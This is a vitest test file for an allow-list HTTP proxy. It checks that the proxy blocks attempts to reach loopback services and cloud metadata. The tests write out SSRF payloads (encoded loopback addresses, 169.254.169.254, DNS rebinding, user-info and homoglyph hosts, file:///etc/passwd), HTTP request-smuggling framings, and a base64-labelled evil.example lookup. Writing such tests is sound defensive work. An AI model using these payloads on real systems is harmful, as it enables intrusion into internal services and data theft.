import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Lookup } from './admission.js';
import { mostAfterFlood, mostLookups } from './call-proxy.js';
import { isPublicAddress } from './public-address.js';
import { Origin } from './testing/origin.js';
import { closed, domain, ProxyUnderTest, statusOf } from './testing/proxy-under-test.js';

/**
 * A secret service of this machine, and an origin that the policy allows. Both are on loopback, so the test's own
 * address stands for the one public address that there is: it is named as the origin's and nothing else is permitted.
 */
const publicName = 'allowed.example';
let secret: Origin;
let origin: Origin;
let proxy: ProxyUnderTest;
let answers: Record<string, readonly string[]>;

/** 127.0.0.2 stands for the public internet; what really listens there is the origin alone. */
const standsForPublic = '127.0.0.2';
const permits = (address: string) => address === standsForPublic || isPublicAddress(address);
const lookup: Lookup = (name) => {
  const found = answers[name];
  return found === undefined ? Promise.reject(new Error('ENOTFOUND')) : Promise.resolve(found);
};

beforeAll(async () => {
  secret = await Origin.start((_request, response) => response.end('secret\n'));
  origin = await Origin.start((request, response) => {
    const [, place] = /^\/redirect-to\/(.*)$/.exec(request.url ?? '') ?? [];
    if (place === undefined) response.end('open\n');
    else response.writeHead(302, { location: decodeURIComponent(place) }).end();
  }, standsForPublic);
  const domains = [
    { ...domain(publicName, origin.port), ports: [origin.port, secret.port] },
    { ...domain('sub.example', origin.port, true), ports: [origin.port, secret.port] },
  ];
  proxy = await ProxyUnderTest.start({ kind: 'allowed', domains }, { lookup, permits });
});
afterAll(() => {
  proxy.close();
  origin.close();
  secret.close();
});
beforeEach(() => {
  answers = { [publicName]: [standsForPublic] };
  secret.seen.length = 0;
  origin.seen.length = 0;
});

const request = (line: string, ...headers: string[]) =>
  [line, ...headers, 'Connection: close', '', ''].join('\r\n');

describe('an attack through the proxy', () => {
  it('leaves what is allowed as it was', async () => {
    expect(await proxy.get(`http://${publicName}:${origin.port}/`)).toBe(200);
    expect(await proxy.get(`http://ALLOWED.Example.:${origin.port}/`)).toBe(200);
    const { status, socket } = await proxy.tunnel(`ALLOWED.EXAMPLE.:${origin.port}`);
    socket.destroy();
    expect(status).toBe(200);
  });

  it.each([
    '127.0.0.1',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '127.1',
    '0',
    '[::1]',
    '[::ffff:127.0.0.1]',
    'localhost',
    'LOCALHOST.',
  ])('does not reach this machine as %s', async (host) => {
    expect(await proxy.get(`http://${host}:${secret.port}/`)).toBe(403);
    expect((await proxy.tunnel(`${host}:${secret.port}`)).status).toBe(403);
    expect(secret.seen).toEqual([]);
  });

  it('does not reach it by an allowed name that leads there', async () => {
    for (const address of [
      '127.0.0.1',
      '::1',
      '::ffff:127.0.0.1',
      '::ffff:7f00:1',
      '64:ff9b::7f00:1',
      '2002:7f00:1::',
      '169.254.169.254',
      'fd00:ec2::254',
    ]) {
      answers = { [publicName]: [address], 'evil.sub.example': [address] };
      expect(await proxy.get(`http://${publicName}:${secret.port}/`)).toBe(403);
      expect((await proxy.tunnel(`evil.sub.example:${secret.port}`)).status).toBe(403);
    }
    expect(secret.seen).toEqual([]);
  });

  it('does not reach it by a redirect, as whoever follows asks again', async () => {
    const place = `http://127.0.0.1:${secret.port}/`;
    const url = `http://${publicName}:${origin.port}/redirect-to/${encodeURIComponent(place)}`;
    const answer = await proxy.say(request(`GET ${url} HTTP/1.1`, 'Host: x'));
    expect([statusOf(answer), answer.includes(place)]).toEqual([302, true]);
    expect(await proxy.get(place)).toBe(403);
    answers['inside.example'] = ['127.0.0.1'];
    expect(await proxy.get(`http://inside.example:${secret.port}/`)).toBe(403);
    expect(secret.seen).toEqual([]);
  });

  it('does not reach it by a name whose answer changes after the check', async () => {
    let asked = 0;
    const rebinding: Lookup = () => Promise.resolve([asked++ % 2 === 0 ? standsForPublic : '127.0.0.1']);
    const victim = await ProxyUnderTest.start(
      {
        kind: 'allowed',
        domains: [{ ...domain(publicName, secret.port), ports: [origin.port, secret.port] }],
      },
      { lookup: rebinding, permits },
    );
    // Asked once for each connection: what was checked is what is connected to.
    expect(await victim.get(`http://${publicName}:${origin.port}/`)).toBe(200);
    expect(asked).toBe(1);
    expect(await victim.get(`http://${publicName}:${secret.port}/`)).toBe(403);
    expect((await victim.tunnel(`${publicName}:${secret.port}`)).status).toBe(502);
    expect((await victim.tunnel(`${publicName}:${secret.port}`)).status).toBe(403);
    victim.close();
    expect(secret.seen).toEqual([]);
    expect(secret.sockets).toEqual([]);
  });

  it('does not reach it by private answers beside a public one', async () => {
    answers = { [publicName]: ['127.0.0.1', standsForPublic, '::1'] };
    expect(await proxy.get(`http://${publicName}:${secret.port}/`)).toBe(502);
    expect(secret.sockets).toEqual([]);
  });

  it('opens no other port', async () => {
    for (const port of [22, 25, 53, 3306, 6379, 11211]) {
      expect((await proxy.tunnel(`${publicName}:${port}`)).status).toBe(403);
      expect(await proxy.get(`http://${publicName}:${port}/`)).toBe(403);
    }
  });

  it('names nobody else by user information, percent signs, backslashes or foreign letters', async () => {
    for (const authority of [
      `${publicName}@127.0.0.1:${secret.port}`,
      `${publicName}:${origin.port}@127.0.0.1:${secret.port}`,
      `127.0.0.1:${secret.port}@${publicName}:${origin.port}`,
      `127.0.0.1:${secret.port}\\@${publicName}:${origin.port}`,
      `127.0.0.1:${secret.port}#@${publicName}:${origin.port}`,
      `127.0.0.1%3a${secret.port}.${publicName}:${origin.port}`,
      `127.0.0.1%00.${publicName}:${origin.port}`,
      `①②⑦.⓪.⓪.①:${secret.port}`,
      `ⓐllowed.example:${origin.port}`,
      `аllowed.example:${origin.port}`,
    ]) {
      expect(await proxy.get(`http://${authority}/`)).toBe(400);
      expect(statusOf(await proxy.say(request(`CONNECT ${authority} HTTP/1.1`, 'Host: x')))).toBe(400);
    }
    expect([secret.seen, origin.seen]).toEqual([[], []]);
  });

  it('reaches nothing by other schemes, or without a target', async () => {
    for (const target of [
      '/',
      '*',
      '//127.0.0.1/',
      'https://allowed.example/',
      'file:///etc/passwd',
      'gopher://127.0.0.1:70/',
    ]) {
      expect(await proxy.get(target)).toBe(400);
    }
  });

  it('does not choose the host by its header: the target decides, and is what the other side is told', async () => {
    const url = `http://${publicName}:${origin.port}/`;
    await proxy.say(request(`GET ${url} HTTP/1.1`, `Host: 127.0.0.1:${secret.port}`));
    await proxy.say(
      request(`GET ${url} HTTP/1.1`, 'Host: fronted.example', 'X-Forwarded-Host: fronted.example'),
    );
    await proxy.get(url, ['Host: fronted.example', `Host: ${publicName}`]);
    expect(origin.seen.map(({ headers }) => headers.host)).toEqual(
      Array(3).fill(`${publicName}:${origin.port}`),
    );
    expect(await proxy.get(`http://127.0.0.1:${secret.port}/`, [`Host: ${publicName}`])).toBe(403);
    expect(secret.seen).toEqual([]);
  });

  it('smuggles no second request past the check', async () => {
    const line = `POST http://${publicName}:${origin.port}/first HTTP/1.1`;
    const hidden = `GET http://127.0.0.1:${secret.port}/ HTTP/1.1\r\nHost: x\r\n\r\n`;
    const framings: readonly (readonly string[])[] = [
      ['Content-Length: 4', 'Transfer-Encoding: chunked'],
      ['Transfer-Encoding: chunked', 'Content-Length: 4'],
      ['Content-Length: 4', `Content-Length: ${hidden.length}`],
      ['Content-Length: +4'],
      ['Content-Length: 4, 4'],
      ['Content-Length: 0x4'],
      ['Transfer-Encoding: chunked, identity'],
      ['Transfer-Encoding: xchunked'],
      ['Transfer-Encoding : chunked'],
      ['Transfer-Encoding:\x0bchunked'],
      ['Transfer-Encoding: identity', 'Transfer-Encoding: chunked, chunked'],
      ['X: y\rTransfer-Encoding: chunked'],
      ['X: y\nTransfer-Encoding: chunked', 'Content-Length: 4'],
    ];
    for (const framing of framings) {
      const answer = await proxy.say(
        [line, 'Host: x', 'Connection: close', ...framing, '', `0\r\n\r\n${hidden}`].join('\r\n'),
      );
      expect([statusOf(answer), framing]).toEqual([400, framing]);
    }
    expect([secret.seen, origin.seen]).toEqual([[], []]);
  });

  it('cannot drop the length of its body by naming it as a header of the hop', async () => {
    const hidden = `GET http://127.0.0.1:${secret.port}/ HTTP/1.1\r\nHost: x\r\n\r\n`;
    await proxy.say(
      [
        `POST http://${publicName}:${origin.port}/ HTTP/1.1`,
        'Host: x',
        'Connection: content-length, transfer-encoding, host, close',
        `Content-Length: ${hidden.length}`,
        '',
        hidden,
      ].join('\r\n'),
    );
    expect(origin.seen.map(({ url, body }) => [url, body])).toEqual([['/', hidden]]);
    expect(secret.seen).toEqual([]);
  });

  it('gets nothing through on a connection whose tunnel was refused', async () => {
    const socket = await proxy.open();
    socket.write(
      `CONNECT 127.0.0.1:${secret.port} HTTP/1.1\r\nHost: x\r\n\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n`,
    );
    await closed(socket);
    expect(secret.sockets).toEqual([]);
  });

  it('asks the resolver for no name that is not allowed', async () => {
    const asked: string[] = [];
    const quiet = await ProxyUnderTest.start(
      { kind: 'allowed', domains: [domain(publicName, 443)] },
      { lookup: (name) => (asked.push(name), Promise.resolve([standsForPublic])), permits },
    );
    await quiet.tunnel('c2VjcmV0.evil.example:443');
    await quiet.get('http://c2VjcmV0.evil.example/');
    quiet.close();
    expect(asked).toEqual([]);
  });

  it('opens no more than one connection to the other side for each of its own, however many requests it sends', async () => {
    const held = await Origin.start(() => undefined, standsForPublic);
    const victim = await ProxyUnderTest.start(
      { kind: 'allowed', domains: [domain(publicName, held.port)] },
      { lookup, permits },
    );
    const url = `http://${publicName}:${held.port}/`;
    const socket = await victim.open();
    socket.write(`GET ${url} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(2_000));
    await closed(socket);
    // The first was begun before the others were seen.
    expect(held.sockets.length).toBeLessThanOrEqual(1);
    expect(await proxy.get(`http://${publicName}:${origin.port}/`)).toBe(200);
    victim.close();
    held.close();
  });

  it('by a flood of requests loses its connections and has few from then on; other calls go on', async () => {
    const policy = { kind: 'allowed', domains: [domain(publicName, origin.port)] } as const;
    const flooding = await ProxyUnderTest.start(policy, { lookup, permits });
    const other = await ProxyUnderTest.start(policy, { lookup, permits });
    const idle = await flooding.open();
    const { socket: tunnelOfOther } = await other.tunnel(`${publicName}:${origin.port}`);
    const socket = await flooding.open();
    socket.write('GET http://denied.example/ HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(2_000));
    await Promise.all([closed(socket), closed(idle)]);
    const few = await Promise.all(Array.from({ length: mostAfterFlood }, () => flooding.open()));
    await closed(await flooding.open());
    expect(few.map(({ destroyed }) => destroyed)).toEqual(few.map(() => false));
    const open = await Promise.all(Array.from({ length: mostAfterFlood + 1 }, () => other.open()));
    expect(await other.get(`http://${publicName}:${origin.port}/`)).toBe(200);
    expect([tunnelOfOther, ...open].some(({ destroyed }) => destroyed)).toBe(false);
    flooding.close();
    other.close();
  });

  it('has few names resolved at once, however many it asks for', async () => {
    const asked: ((addresses: readonly string[]) => void)[] = [];
    const slow: Lookup = () => new Promise((resolve) => asked.push(resolve));
    const victim = await ProxyUnderTest.start(
      { kind: 'allowed', domains: [domain('sub.example', origin.port, true)] },
      { lookup: slow, permits },
    );
    const names = Array.from({ length: 20 }, (_, index) => `n${index}.sub.example:${origin.port}`);
    const tunnels = names.map((name) => victim.tunnel(name));
    for (let answered = 0; answered < names.length; answered += 1) {
      await expect.poll(() => asked.length).toBeGreaterThan(answered);
      expect(asked.length - answered).toBeLessThanOrEqual(mostLookups);
      asked[answered]?.([standsForPublic]);
    }
    const opened = await Promise.all(tunnels);
    expect(opened.map(({ status }) => status)).toEqual(Array(20).fill(200));
    for (const { socket } of opened) socket.destroy();
    victim.close();
  });

  it('does not end the proxy, whatever it says', async () => {
    const noise = [
      '\0\0\0',
      '\x16\x03\x01\x02\x00\x01',
      '\x05\x01\x00',
      'GET',
      'CONNECT\r\n\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      'GET http://a HTTP/9.9\r\n\r\n',
    ];
    for (const words of noise) {
      const socket = await proxy.open();
      socket.end(words);
      await closed(socket);
    }
    expect(await proxy.get(`http://${publicName}:${origin.port}/`)).toBe(200);
  });
});
